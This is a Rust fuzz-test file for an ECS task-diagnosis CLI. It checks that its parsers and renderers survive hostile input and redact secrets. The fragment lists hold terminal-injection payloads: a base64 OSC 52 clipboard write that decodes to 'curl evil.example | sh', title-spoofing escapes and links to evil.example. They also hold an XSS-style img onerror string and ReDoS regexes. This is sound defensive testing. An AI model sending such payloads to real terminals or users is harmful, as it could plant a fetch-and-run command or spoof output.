//! Fuzz targets, as bounded property tests with a fixed seed (issue 5), and the replay of the
//! committed corpus in `tests/corpus/`. The targets are the bundle parser (`select_task`,
//! `parse_task_definition`, `parse_logs`), the task-argument parser, the rule loader, the matcher
//! behind `explain` with the built-in rules, and sanitizing plus redaction end to end on rendered
//! output. Inputs are built from the fragments that matter (escape sequences, JSON tokens, real
//! AWS error messages, chat markup, secrets in context) mixed with arbitrary characters, so a few
//! hundred cases per target reach the interesting paths; `cargo fuzz` is not needed. Every case
//! runs under a hang guard. A failing case is printed shrunk; add it to the corpus when fixed.

use crate::support::bin::ecsdoctor;
use crate::support::checks;

use std::path::{Path, PathBuf};
use std::sync::mpsc::{self, RecvTimeoutError};
use std::sync::LazyLock;
use std::time::{Duration, Instant};

use checks::{corpus_dir, first_forbidden, output_problems, secret_cases, strip_sgr, Fmt, SecretCase};
use ecsdoctor::cli::Format;
use ecsdoctor::evidence::{ContainerLogs, Evidence, LogLine};
use ecsdoctor::render::{RenderOptions, Styles};
use ecsdoctor::rules::engine::Matcher;
use ecsdoctor::sanitize::RedactOptions;
use ecsdoctor::source::bundle::{parse_logs, parse_task_definition, select_task};
use ecsdoctor::source::Limits;
use ecsdoctor::verdict::{self, Diagnosis, Options};
use proptest::prelude::*;
use proptest::sample::{select, Index};
use proptest::test_runner::RngSeed;
use serde_json::{json, Value};

/// One seed for every target, so a run is reproducible.
const SEED: u64 = 0x0EC5_D0C7_0F22;
/// What one case may take before it counts as a hang (debug build, busy machine).
const CASE_GUARD: Duration = Duration::from_secs(20);

fn config(cases: u32) -> ProptestConfig {
    ProptestConfig {
        cases,
        failure_persistence: None,
        rng_seed: RngSeed::Fixed(SEED),
        max_shrink_iters: 1024,
        ..ProptestConfig::default()
    }
}

/// The built-in rules, compiled once.
static MATCHER: LazyLock<Matcher> = LazyLock::new(|| Matcher::load(true, &[]).expect("built-in rules load"));
static SECRETS: LazyLock<Vec<SecretCase>> = LazyLock::new(secret_cases);

/// Runs `f` on its own thread; fails if it panics or is still running after `limit`.
fn guarded<T: Send + 'static>(what: &str, limit: Duration, f: impl FnOnce() -> T + Send + 'static) -> T {
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(f());
    });
    match rx.recv_timeout(limit) {
        Ok(v) => v,
        Err(RecvTimeoutError::Timeout) => panic!("{what}: still running after {limit:?}: a hang"),
        Err(RecvTimeoutError::Disconnected) => panic!("{what}: panicked (see above)"),
    }
}

// ------------------------------------------------------------------------------------------------
// Fragments
// ------------------------------------------------------------------------------------------------

const DENIAL: &str = "AccessDeniedException: User: arn:aws:sts::123456789012:assumed-role/orders-api-task-role/0f3c1e2d4b5a69788796a5b4c3d2e1f0 is not authorized to perform: s3:GetObject on resource: arn:aws:s3:::acme-orders/key";

/// Escape sequences and invisible characters, complete and broken.
const ESCAPES: &[&str] = &[
    "\x1b[31;1m",
    "\x1b[2J\x1b[H",
    "\x1b[?1049h",
    "\x1b[12;",
    "\x1b]0;PWNED-TITLE\x07",
    "\x1b]2;PWNED-TITLE\x1b\\",
    "\x1b]8;;https://evil.example/a\x07click\x1b]8;;\x07",
    "\x1b]8;;https://evil.example/b\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "\x1b]0;never closed ",
    "\x1bPq#0;2;0;0;0PAYLOAD\x1b\\",
    "\x1b_APC\x1b\\",
    "\x1b^PM\x1b\\",
    "\x1bXSOS\x1b\\",
    "\u{9b}31m",
    "\u{9d}0;C1-TITLE\u{9c}",
    "\u{90}C1-DCS\u{9c}",
    "\u{85}\u{8d}\u{9a}",
    "\x1bc",
    "\x1b7",
    "\x1b(0",
    "\x1b",
    "\x07",
    "\x00",
    "\x08\x7f",
    "\r",
    "\r\n",
    "\n",
    "\t",
    "\u{202e}",
    "\u{2066}\u{2069}",
    "\u{200e}\u{061c}",
    "\u{200b}\u{feff}\u{2060}",
    "\u{2028}",
    "\u{e0041}",
];

/// Escapes that `terminal_safe` removes whole wherever they are put: inserting one anywhere in a
/// text must not change what is redacted.
const REMOVABLE: &[&str] = &[
    "\x1b[31;1m",
    "\x1b[0m",
    "\x1b]0;PWNED-TITLE\x07",
    "\x1b]8;;https://evil.example/a\x1b\\",
    "\x1bPPAYLOAD\x1b\\",
    "\u{9b}2J",
    "\u{9d}0;T\u{9c}",
    "\x1b7",
    "\x1b(B",
    "\u{202e}",
    "\u{2066}",
    "\u{200b}",
    "\u{200d}",
    "\u{feff}",
    "\u{e0041}",
    "\x00",
    "\x7f",
];

/// Real messages and their parts: what the matcher and the extractors look for.
const MESSAGES: &[&str] = &[
    DENIAL,
    "User: arn:aws:sts::123456789012:assumed-role/",
    "arn:aws:iam::123456789012:role/ecsTaskExecutionRole",
    " is not authorized to perform: ",
    "ssm:GetParameters",
    "secretsmanager:GetSecretValue",
    "kms:Decrypt",
    " on resource: ",
    "arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbC123",
    " with an explicit deny in a service control policy",
    " because no identity-based policy allows the s3:PutObject action",
    "ResourceInitializationError: unable to pull secrets or registry auth: execution resource retrieval failed: ",
    "CannotPullContainerError: pull image manifest has been retried 5 time(s): ",
    "OutOfMemoryError: Container killed due to memory usage",
    "Essential container in task exited",
    "An error occurred (AccessDenied) when calling the PutObject operation: ",
    "operation error S3: PutObject, https response error StatusCode: 403, ",
    "Unable to locate credentials",
    "Task failed ELB health checks in (target-group arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/web/0f3c)",
    "exitCode=137",
];

/// Chat and markdown hazards.
const CHAT: &[&str] = &[
    "@here",
    "@channel",
    "@everyone",
    "<!here>",
    "<!channel>",
    "<@U024BE7LH>",
    "<!subteam^S012AB3CD|oncall>",
    "<#C024BE7LR>",
    "```",
    "````",
    "~~~",
    "`",
    "[click](https://evil.example/x)",
    "![img](https://evil.example/i.png)",
    "<https://evil.example/auto>",
    "<img src=x onerror=alert(1)>",
    "<script>",
    "*bold*",
    "# heading",
    "- list",
    "|",
    "\\",
];

/// JSON syntax and the keys the bundle parser looks for.
const JSON_TOKENS: &[&str] = &[
    "{",
    "}",
    "[",
    "]",
    "\"",
    ":",
    ",",
    "\"tasks\":",
    "\"events\":",
    "\"taskDefinition\":",
    "\"containerDefinitions\":",
    "\"containers\":",
    "\"message\":",
    "\"timestamp\":",
    "\"exitCode\":",
    "\"createdAt\":",
    "null",
    "true",
    "1e999",
    "-0",
    "18446744073709551616",
    "\"\\u0000\"",
    "\"\\ud800\"",
    "\"\\u001b]0;x\\u0007\"",
    "\\",
];

/// Keys of the AWS CLI shapes, for generated JSON that gets past the first checks.
const KEYS: &[&str] = &[
    "tasks",
    "failures",
    "taskArn",
    "clusterArn",
    "taskDefinitionArn",
    "lastStatus",
    "stopCode",
    "stoppedReason",
    "launchType",
    "createdAt",
    "startedAt",
    "stoppedAt",
    "pullStartedAt",
    "containers",
    "name",
    "reason",
    "exitCode",
    "image",
    "taskDefinition",
    "containerDefinitions",
    "executionRoleArn",
    "taskRoleArn",
    "secrets",
    "valueFrom",
    "logConfiguration",
    "options",
    "environmentFiles",
    "events",
    "message",
    "timestamp",
    "arn",
    "detail",
];

/// A short run of characters from the classes that break parsers and terminals.
fn nasty_chars() -> impl Strategy<Value = String> {
    let c = prop_oneof![
        4 => proptest::char::range(' ', '~'),
        1 => proptest::char::range('\0', '\x1f'),
        1 => proptest::char::range('\u{7f}', '\u{9f}'),
        1 => select(vec!['\u{202e}', '\u{2066}', '\u{200b}', '\u{feff}', '\u{2028}', '\u{e0041}', '\u{ff20}']),
        1 => any::<char>(),
    ];
    proptest::collection::vec(c, 0..12).prop_map(|v| v.into_iter().collect())
}

fn secret_text() -> impl Strategy<Value = String> {
    select(SECRETS.iter().map(|c| c.text.clone()).collect::<Vec<_>>())
}

/// One fragment of any kind.
fn fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        select(ESCAPES).prop_map(String::from),
        select(MESSAGES).prop_map(String::from),
        select(CHAT).prop_map(String::from),
        select(JSON_TOKENS).prop_map(String::from),
        secret_text(),
        nasty_chars(),
    ]
}

/// Fragments glued together with nothing between them: the nastiest text for parsers.
fn glued_text() -> impl Strategy<Value = String> {
    proptest::collection::vec(fragment(), 0..16).prop_map(|v| v.concat())
}

/// A JSON scalar.
fn json_leaf() -> impl Strategy<Value = Value> {
    prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>()
            .prop_filter("JSON numbers are finite", |f| f.is_finite())
            .prop_map(Value::from),
        select(vec![
            "2025-11-23T12:13:20.000000+00:00",
            "2025-11-23T12:13:20Z",
            "9999-12-31T23:59:60.999+23:59",
            "0000-01-01T00:00:00-99:99",
            "2025-11-23T1",
        ])
        .prop_map(Value::from),
        glued_text().prop_map(Value::from),
    ]
}

fn json_key() -> impl Strategy<Value = String> {
    prop_oneof![3 => select(KEYS).prop_map(String::from), 1 => nasty_chars()]
}

/// Any JSON document, with the AWS CLI's keys more often than chance would give them.
fn json_value() -> impl Strategy<Value = Value> {
    json_leaf().prop_recursive(4, 48, 6, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
            proptest::collection::vec((json_key(), inner), 0..6).prop_map(|kv| Value::Object(kv.into_iter().collect())),
        ]
    })
}

/// Every JSON pointer into `v`, the root included.
fn pointers(v: &Value) -> Vec<String> {
    fn walk(v: &Value, at: String, out: &mut Vec<String>) {
        out.push(at.clone());
        match v {
            Value::Array(a) => {
                for (i, x) in a.iter().enumerate() {
                    walk(x, format!("{at}/{i}"), out);
                }
            }
            Value::Object(o) => {
                for (k, x) in o {
                    walk(x, format!("{at}/{}", k.replace('~', "~0").replace('/', "~1")), out);
                }
            }
            _ => {}
        }
    }
    let mut out = Vec::new();
    walk(v, String::new(), &mut out);
    out
}

/// `base` with a few of its nodes replaced by arbitrary JSON, serialized, and maybe truncated.
fn mutated(base: Value) -> impl Strategy<Value = String> {
    (
        proptest::collection::vec((any::<Index>(), json_value()), 1..4),
        proptest::option::weighted(0.2, any::<Index>()),
    )
        .prop_map(move |(edits, cut)| {
            let mut v = base.clone();
            for (at, new) in edits {
                let ptrs = pointers(&v);
                let p = at.get(&ptrs).clone();
                if let Some(slot) = v.pointer_mut(&p) {
                    *slot = new;
                }
            }
            let mut s = v.to_string();
            if let Some(cut) = cut {
                let mut i = cut.index(s.len() + 1);
                while !s.is_char_boundary(i) {
                    i -= 1;
                }
                s.truncate(i);
            }
            s
        })
}

/// Text for a parser: glued fragments, arbitrary JSON, or a valid document mutated.
fn parser_input(base: Value) -> impl Strategy<Value = String> {
    prop_oneof![
        1 => glued_text(),
        1 => json_value().prop_map(|v| v.to_string()),
        3 => mutated(base),
    ]
}

// ------------------------------------------------------------------------------------------------
// Valid documents to mutate
// ------------------------------------------------------------------------------------------------

fn describe_tasks(stopped_reason: &str, container_reason: Option<&str>) -> Value {
    json!({
        "tasks": [{
            "taskArn": "arn:aws:ecs:eu-west-1:123456789012:task/prod/0f3c1e2d4b5a69788796a5b4c3d2e1f0",
            "clusterArn": "arn:aws:ecs:eu-west-1:123456789012:cluster/prod",
            "taskDefinitionArn": "arn:aws:ecs:eu-west-1:123456789012:task-definition/orders-api:42",
            "lastStatus": "STOPPED",
            "launchType": "FARGATE",
            "stopCode": "EssentialContainerExited",
            "stoppedReason": stopped_reason,
            "createdAt": "2025-11-23T12:13:20.000000+00:00",
            "startedAt": "2025-11-23T12:13:50.000000+00:00",
            "stoppedAt": "2025-11-23T12:53:30.000000+00:00",
            "containers": [{
                "name": "app",
                "image": "123456789012.dkr.ecr.eu-west-1.amazonaws.com/orders-api:2.7.1",
                "lastStatus": "STOPPED",
                "exitCode": 1,
                "reason": container_reason
            }]
        }],
        "failures": []
    })
}

fn describe_task_definition() -> Value {
    json!({
        "taskDefinition": {
            "taskDefinitionArn": "arn:aws:ecs:eu-west-1:123456789012:task-definition/orders-api:42",
            "executionRoleArn": "arn:aws:iam::123456789012:role/ecsTaskExecutionRole",
            "taskRoleArn": "arn:aws:iam::123456789012:role/orders-api-task-role",
            "containerDefinitions": [{
                "name": "app",
                "image": "123456789012.dkr.ecr.eu-west-1.amazonaws.com/orders-api:2.7.1",
                "secrets": [{ "name": "DB", "valueFrom": "arn:aws:ssm:eu-west-1:123456789012:parameter/db" }],
                "logConfiguration": { "logDriver": "awslogs", "options": { "awslogs-group": "/ecs/orders-api" } }
            }]
        }
    })
}

fn log_events() -> Value {
    json!({ "events": [
        { "timestamp": 1_763_900_000_000_i64, "message": "starting" },
        { "timestamp": 1_763_900_001_000_i64, "message": DENIAL },
    ], "nextForwardToken": "f/1" })
}

/// An evidence bundle's worth of a runtime task, with untrusted text in the three places it
/// comes from: the stop reason, a container reason and a log line.
fn evidence(stopped_reason: &str, container_reason: &str, log: &str) -> Evidence {
    let task = select_task(
        &describe_tasks(stopped_reason, Some(container_reason)).to_string(),
        "t",
        None,
    )
    .expect("a valid task");
    let td = parse_task_definition(&describe_task_definition().to_string(), "td").expect("a valid definition");
    Evidence {
        task,
        task_definition: Some(td),
        logs: vec![ContainerLogs {
            container: "app".into(),
            lines: vec![LogLine {
                timestamp: Some(1_763_900_000_000),
                message: log.into(),
            }],
        }],
        notes: Vec::new(),
    }
}

/// Renders a diagnosis in every format, and as colored text with its SGR codes stripped.
fn render_all(d: &Diagnosis) -> Vec<(Fmt, String)> {
    let plain = RenderOptions {
        styles: Styles::default(),
        max_evidence: 100,
    };
    let colored = RenderOptions {
        styles: Styles::colored(),
        ..plain
    };
    let mut out = Vec::new();
    for (fmt, format, opts) in [
        (Fmt::Text, Format::Text, &plain),
        (Fmt::Markdown, Format::Markdown, &plain),
        (Fmt::Json, Format::Json, &plain),
        (Fmt::Text, Format::Text, &colored),
    ] {
        let mut buf = Vec::new();
        ecsdoctor::render::diagnosis(d, format, opts, &mut buf).expect("rendering to memory");
        let s = String::from_utf8(buf).expect("rendered output is UTF-8");
        out.push((fmt, strip_sgr(&s)));
    }
    out
}

/// Every problem of every rendering of `d`.
fn rendered_problems(d: &Diagnosis, secrets: &[&str]) -> Vec<String> {
    render_all(d)
        .into_iter()
        .flat_map(|(fmt, out)| {
            output_problems(fmt, &out, secrets)
                .into_iter()
                .map(move |p| format!("{fmt:?}: {p}"))
        })
        .collect()
}

/// The contract of a bundle file's error: bad input (exit 2), naming the file first.
fn bundle_error_problem(e: &ecsdoctor::error::SourceError, name: &str) -> Option<String> {
    let msg = e.to_string();
    if e.exit_code() != 2 {
        return Some(format!("exit code {}: {msg:?}", e.exit_code()));
    }
    if !msg.starts_with(&format!("{name}: ")) {
        return Some(format!("does not start with {name}: {msg:?}"));
    }
    None
}

/// An error goes to a terminal on one line, and may quote the input: it must be terminal-safe.
fn error_line_problem(msg: &str) -> Option<String> {
    if msg.lines().count() > 1 {
        return Some(format!("not one line: {msg:?}"));
    }
    first_forbidden(msg).map(|f| format!("{f}: {msg:?}"))
}

// ------------------------------------------------------------------------------------------------
// Targets
// ------------------------------------------------------------------------------------------------

proptest! {
    #![proptest_config(config(256))]

    /// describe-tasks: never a panic; an error is bad input (exit 2), one line, naming the file.
    #[test]
    fn fuzz_bundle_select_task(text in parser_input(describe_tasks("Essential container in task exited", None))) {
        let r = select_task(&text, "x/describe-tasks.json", None);
        if let Err(e) = &r {
            prop_assert_eq!(bundle_error_problem(e, "x/describe-tasks.json"), None);
        }
        // A task named by id that the file may not hold.
        let want = ecsdoctor::arn::parse_task("0f3c1e2d4b5a69788796a5b4c3d2e1f0").expect("an id");
        if let Err(e) = select_task(&text, "x/describe-tasks.json", Some(&want)) {
            prop_assert_eq!(bundle_error_problem(&e, "x/describe-tasks.json"), None);
        }
    }

    /// describe-task-definition: the same contract.
    #[test]
    fn fuzz_bundle_parse_task_definition(text in parser_input(describe_task_definition())) {
        if let Err(e) = parse_task_definition(&text, "x/describe-task-definition.json") {
            prop_assert_eq!(bundle_error_problem(&e, "x/describe-task-definition.json"), None);
        }
    }

    /// Log events: the same contract, and the caps always hold, with a note when they cut.
    #[test]
    fn fuzz_bundle_parse_logs(
        text in prop_oneof![
            2 => parser_input(log_events()),
            1 => proptest::collection::vec((proptest::option::of(any::<i64>()), glued_text()), 0..24)
                .prop_map(|ev| json!({ "events": ev.into_iter()
                    .map(|(t, m)| json!({ "timestamp": t, "message": m }))
                    .collect::<Vec<_>>() }).to_string()),
        ]
    ) {
        let limits = Limits { max_lines: 8, max_line_bytes: 64 };
        let mut notes = Vec::new();
        match parse_logs(&text, "x/logs/app.json", "app", &limits, &mut notes) {
            Ok(logs) => {
                prop_assert!(logs.lines.len() <= limits.max_lines);
                for l in &logs.lines {
                    prop_assert!(
                        l.message.len() <= limits.max_line_bytes + " [truncated]".len(),
                        "{} bytes", l.message.len()
                    );
                }
                let given = serde_json::from_str::<Value>(&text).ok()
                    .and_then(|v| v["events"].as_array().map(Vec::len)).unwrap_or(0);
                if given > limits.max_lines {
                    prop_assert!(notes.iter().any(|n| n.contains("kept the newest 8")), "{:?}", notes);
                }
                // Kept lines are the newest, oldest first.
                let ts: Vec<i64> = logs.lines.iter().map(|l| l.timestamp.unwrap_or(i64::MIN)).collect();
                prop_assert!(ts.windows(2).all(|w| w[0] <= w[1]), "{:?}", ts);
            }
            Err(e) => prop_assert_eq!(bundle_error_problem(&e, "x/logs/app.json"), None),
        }
    }

    /// Every bundle parser's error is one terminal-safe line, whatever the file quotes (its keys,
    /// `failures[]`, the ARNs of the tasks it holds).
    #[test]
    fn fuzz_bundle_errors_are_one_safe_line(
        text in prop_oneof![
            parser_input(describe_tasks("Essential container in task exited", None)),
            parser_input(log_events()),
            parser_input(describe_task_definition()),
        ]
    ) {
        let mut notes = Vec::new();
        let errors = [
            select_task(&text, "f", None).err(),
            parse_task_definition(&text, "f").err(),
            parse_logs(&text, "f", "app", &Limits::default(), &mut notes).err(),
        ];
        for e in errors.into_iter().flatten() {
            prop_assert_eq!(error_line_problem(&e.to_string()), None);
        }
    }

    /// Task arguments: never a panic; what is accepted is well formed, and an error is one short
    /// line.
    #[test]
    fn fuzz_arn_parse_task(
        arg in prop_oneof![
            1 => glued_text(),
            3 => (
                prop_oneof![select(vec!["aws", "aws-cn", "aws-us-gov", "aws-iso-b", "AWS", "aws-xx", ""]).prop_map(String::from), nasty_chars()],
                prop_oneof![select(vec!["ecs", "ECS", "s3", ""]).prop_map(String::from), nasty_chars()],
                prop_oneof![select(vec!["eu-west-1", "us-gov-west-1", "cn-north-1", "eu-west", "EU-WEST-1", "eu-west-1a", "-1", ""]).prop_map(String::from), "[a-z0-9-]{0,16}", nasty_chars()],
                prop_oneof!["[0-9]{12}", "[0-9]{10,14}", nasty_chars()],
                prop_oneof![
                    "task/[A-Za-z0-9_-]{1,12}/[0-9a-f]{32}",
                    "task/[0-9a-f-]{6,70}",
                    "(task|service|cluster)(/[^:]{0,12}){0,4}",
                    nasty_chars().prop_map(|s| format!("task/{s}")),
                ],
            ).prop_map(|(p, s, r, a, res)| format!("arn:{p}:{s}:{r}:{a}:{res}")),
        ]
    ) {
        match ecsdoctor::arn::parse_task(&arg) {
            Ok(t) => {
                let hexish = |s: &str| (8..=64).contains(&s.len()) && s.chars().all(|c| c.is_ascii_hexdigit() || c == '-');
                prop_assert!(hexish(&t.id), "{:?}", t);
                if t.arn.is_some() {
                    prop_assert!(ecsdoctor::arn::PARTITIONS.contains(&t.partition.as_deref().unwrap_or("")), "{:?}", t);
                    let region = t.region.as_deref().unwrap_or("");
                    prop_assert!(region.split('-').count() >= 3 && region.ends_with(|c: char| c.is_ascii_digit()), "{:?}", t);
                    prop_assert!(region.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'), "{:?}", t);
                    let account = t.account.as_deref().unwrap_or("");
                    prop_assert!(account.len() == 12 && account.bytes().all(|b| b.is_ascii_digit()), "{:?}", t);
                }
                if let Some(c) = &t.cluster {
                    prop_assert!(c.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_'), "{:?}", t);
                }
            }
            Err(e) => prop_assert!(e.lines().count() <= 1 && e.len() < 1000, "{:?}", e),
        }
    }

    /// The task argument is echoed in its error; pasted from a chat it may carry escapes, bidi
    /// controls or invisible characters, none of which may reach the terminal.
    #[test]
    fn fuzz_arn_errors_are_terminal_safe(arg in glued_text()) {
        if let Err(e) = ecsdoctor::arn::parse_task(&arg) {
            prop_assert_eq!(first_forbidden(&e), None);
        }
    }

    /// Well-formed task ARNs always parse, into their own parts.
    #[test]
    fn fuzz_arn_round_trip(
        partition in select(ecsdoctor::arn::PARTITIONS),
        region in "[a-z]{2}(-[a-z]{2,9}){1,2}-[0-9]{1,2}",
        account in "[0-9]{12}",
        cluster in proptest::option::of("[A-Za-z0-9_-]{1,40}"),
        id in "[0-9a-f]{32}",
    ) {
        let arn = match &cluster {
            Some(c) => format!("arn:{partition}:ecs:{region}:{account}:task/{c}/{id}"),
            None => format!("arn:{partition}:ecs:{region}:{account}:task/{id}"),
        };
        let t = ecsdoctor::arn::parse_task(&arn).map_err(TestCaseError::fail)?;
        prop_assert_eq!(t.arn.as_deref(), Some(arn.as_str()));
        prop_assert_eq!(t.partition.as_deref(), Some(partition));
        prop_assert_eq!(t.region.as_deref(), Some(region.as_str()));
        prop_assert_eq!(t.account.as_deref(), Some(account.as_str()));
        prop_assert_eq!(t.cluster, cluster);
        prop_assert_eq!(t.id, id);
    }
}

/// Regex-ish text: what a user might write in `pattern`, and worse.
fn pattern_text() -> impl Strategy<Value = String> {
    prop_oneof![
        select(vec![
            "TEAM-DENIED",
            r"denied (?P<action>\w+:\w+)",
            r"(\w{100}){100}",
            r"\p{L}{5000}",
            r"((a{100}){100}){100}",
            r"[\s\S]{1000}{1000}",
            r"(?:x+x+)+y",
            r"(unclosed",
            r"[z-a]",
            r"x{2,1}",
            r"\p{NotAClass}",
            r"(?P<a>x)(?P<a>y)",
            r"",
            r"(?i)\b\w+\b",
        ])
        .prop_map(String::from),
        proptest::collection::vec(
            select(vec![
                "(", ")", "[", "]", "{", "}", "{1000}", "{2,}", "*", "+", "?", "|", "\\", r"\w", r"\d", r"\s",
                r"\p{L}", ".", "^", "$", "a", "z", "0", "-", ",", "(?P<x>", "(?i)", "'''",
            ]),
            0..16,
        )
        .prop_map(|v| v.concat()),
    ]
}

/// A rule file: well formed with arbitrary values, a valid one mutated byte by byte, or junk.
fn rule_file_text() -> impl Strategy<Value = String> {
    let value = || prop_oneof![3 => "[a-z][a-z0-9-]{0,20}", 1 => nasty_chars()];
    let structured = (
        value(),
        value(),
        select(vec!["\"logs\"", "\"stopped-reason\"", "\"nowhere\"", "5", ""]),
        pattern_text(),
        select(vec!["task-role", "execution-role", "by-phase", "the-intern"]),
        select(vec!["iam", "app", "weather"]),
        prop_oneof![Just("Grant it".to_string()), Just("Grant {action} on {nothing}".to_string()), nasty_chars()],
        select(vec!["", "priority = 200\n", "permissions = [\"not an action\"]\n", "severity = \"high\"\n", "docs = [\"http://x\"]\n"]),
    )
        .prop_map(|(id, title, look, pattern, culprit, category, fix, extra)| {
            format!(
                "[[rule]]\nid = {id:?}\ntitle = {title:?}\nlook_in = [{look}]\npattern = '''{pattern}'''\nculprit = \"{culprit}\"\ncategory = \"{category}\"\nfix = {fix:?}\nexplain = \"e\"\ndocs = [\"https://example.com\"]\n{extra}[rule.examples]\nmatch = [\"TEAM-DENIED x\"]\nno_match = [\"ok\"]\n"
            )
        });
    let valid = "[[rule]]\nid = \"team-denied\"\ntitle = \"t\"\nlook_in = [\"logs\"]\npattern = 'TEAM-(?P<code>\\d+)'\nculprit = \"task-role\"\ncategory = \"iam\"\nfix = \"Raise {code}\"\nexplain = \"e\"\ndocs = [\"https://example.com\"]\n[rule.examples]\nmatch = [\"TEAM-42\"]\nno_match = [\"TEAM\"]\n";
    let mutated = proptest::collection::vec((any::<Index>(), prop_oneof![Just(String::new()), fragment()]), 1..6)
        .prop_map(move |edits| {
            let mut s = valid.to_string();
            for (at, new) in edits {
                let mut i = at.index(s.len() + 1);
                while !s.is_char_boundary(i) {
                    i -= 1;
                }
                // Replace the character there (if any) with the fragment.
                let end = s[i..].chars().next().map_or(i, |c| i + c.len_utf8());
                s.replace_range(i..end, &new);
            }
            s
        });
    prop_oneof![3 => structured, 3 => mutated, 1 => glued_text()]
}

proptest! {
    #![proptest_config(config(160))]

    /// The rule loader: never a panic or a hang; every error names the file and is one line; a
    /// file that loads compiles, and its examples run.
    #[test]
    fn fuzz_rule_loader(text in rule_file_text()) {
        let dir = tempfile::tempdir().expect("tmp");
        let path = dir.path().join("team.toml");
        std::fs::write(&path, &text).expect("write");
        let shown = path.display().to_string();
        let problems = guarded("rule loader", CASE_GUARD, move || {
            let mut problems = Vec::new();
            match ecsdoctor::rules::Catalogue::load(false, &[path]) {
                Err(errors) => {
                    for e in &errors.0 {
                        let line = e.to_string();
                        if e.path != shown || line.contains('\n') {
                            problems.push(format!("bad error line: {line:?}"));
                        }
                    }
                }
                Ok(cat) => {
                    if let Ok(m) = Matcher::new(cat) {
                        let _ = ecsdoctor::rules::selftest::run(&m, |_| true);
                        for r in m.rules() {
                            for ex in &r.examples.matches {
                                let _ = verdict::explain(ex, &m, &Options::default());
                            }
                        }
                    }
                }
            }
            problems
        });
        prop_assert!(problems.is_empty(), "{:?}\n{}", problems, text);
    }
}

/// Text for `explain`: fragments with a space between them, so each secret keeps its context.
fn paste() -> impl Strategy<Value = (String, Vec<String>)> {
    proptest::collection::vec(
        prop_oneof![
            4 => fragment().prop_map(|f| (f, None)),
            // `explain` quotes a paste line by line, so a secret whose context spans lines (a PEM
            // key) is not one to a single line; `why`, where one log event holds the whole key,
            // is the end-to-end target's job.
            1 => select(SECRETS.iter().filter(|c| !c.text.contains('\n')).cloned().collect::<Vec<_>>())
                .prop_map(|c| (c.text, Some(c.secret))),
        ],
        1..14,
    )
    .prop_map(|parts| {
        let secrets = parts.iter().filter_map(|(_, s)| s.clone()).collect();
        // " x ": a broken escape before a secret ends at the `x`, not inside the secret.
        let text = parts.into_iter().map(|(t, _)| t).collect::<Vec<_>>().join(" x ");
        (text, secrets)
    })
}

proptest! {
    #![proptest_config(config(160))]

    /// `explain` with the built-in rules on hostile pastes: never a panic or a hang, and every
    /// format is terminal-safe, chat-safe and free of the secrets the paste carried.
    #[test]
    fn fuzz_explain_builtin_rules((text, secrets) in paste()) {
        let input = text.clone();
        let d = guarded("explain", CASE_GUARD, move || {
            verdict::explain(&input, &MATCHER, &Options::default())
        });
        let secrets: Vec<&str> = secrets.iter().map(String::as_str).collect();
        let problems = rendered_problems(&d, &secrets);
        prop_assert!(problems.is_empty(), "{:#?}\ninput: {:?}", problems, text);
    }

    /// Sanitize and redact end to end: a secret in context, with removable escapes and invisible
    /// characters sprinkled anywhere in it, in a stop reason, a container reason and a log line,
    /// through `why`'s pipeline and `explain`, rendered in every format. Redacted: the secret is
    /// nowhere. With redaction off: it is there, whole (the escapes were removed, not kept).
    #[test]
    fn fuzz_sanitize_and_redact_end_to_end(
        case in select(SECRETS.clone()),
        inserts in proptest::collection::vec((any::<Index>(), select(REMOVABLE)), 0..6),
        // Complete sequences only: an unterminated OSC before the secret and another ESC after it
        // hide the secret (as a terminal would), which is safe but would make the check vacuous.
        wrapper in prop_oneof![Just(String::new()), select(REMOVABLE).prop_map(String::from), select(CHAT).prop_map(String::from)],
    ) {
        let mut text = case.text.clone();
        // Positions in the original text, filled from the end, so no junk lands inside another;
        // contexts that hold their own escapes only get junk at their start.
        let anywhere = !text.contains('\x1b');
        let mut at: Vec<(usize, &str)> = inserts
            .into_iter()
            .map(|(at, junk)| {
                let mut i = if anywhere { at.index(text.len() + 1) } else { 0 };
                while !text.is_char_boundary(i) {
                    i -= 1;
                }
                (i, junk)
            })
            .collect();
        at.sort_by_key(|&(i, _)| std::cmp::Reverse(i));
        for (i, junk) in at {
            text.insert_str(i, junk);
        }
        let line = format!("{DENIAL} {wrapper} x {text} x {wrapper}");
        let secrets = [case.secret.as_str()];
        let redacting = Options::default();
        let ev = evidence(&format!("CannotPullContainerError: {line}"), &format!("OutOfMemoryError: {line}"), &line);
        let why = verdict::diagnose(&ev, &MATCHER, &redacting);
        let pasted = verdict::explain(&line, &MATCHER, &redacting);
        for (what, d) in [("why", &why), ("explain", &pasted)] {
            let problems = rendered_problems(d, &secrets);
            prop_assert!(problems.is_empty(), "{}: {:#?}\nline: {:?}", what, problems, line);
        }
        // Not vacuous: without redaction the same pipeline shows the secret, whole. (A PEM key's
        // lines are separate texts for `explain`, so only `why` shows its body.)
        let open = Options { redact: RedactOptions { secrets: false, accounts: false } };
        let shown = serde_json::to_string(&verdict::diagnose(&ev, &MATCHER, &open)).expect("json");
        let shown: Value = serde_json::from_str(&shown).expect("json");
        let evidence_text: Vec<&str> = shown["findings"].as_array().into_iter().flatten()
            .filter_map(|f| f["evidence"].as_str()).collect();
        prop_assert!(
            evidence_text.iter().any(|e| e.contains(&case.secret)),
            "{}: not shown without redaction: {:?}", case.shape, evidence_text
        );
    }
}

// ------------------------------------------------------------------------------------------------
// The corpus
// ------------------------------------------------------------------------------------------------

/// The corpus inputs: every file of `tests/corpus/` but its README, the secrets manifest and
/// dotfiles (`.gitattributes`).
fn corpus_files() -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(corpus_dir())
        .expect("tests/corpus")
        .map(|e| e.expect("entry").path())
        .filter(|p| {
            let name = p.file_name().and_then(|n| n.to_str()).unwrap_or("");
            p.is_file() && name != "README.md" && name != "secrets.tsv" && !name.starts_with('.')
        })
        .collect();
    files.sort();
    files
}

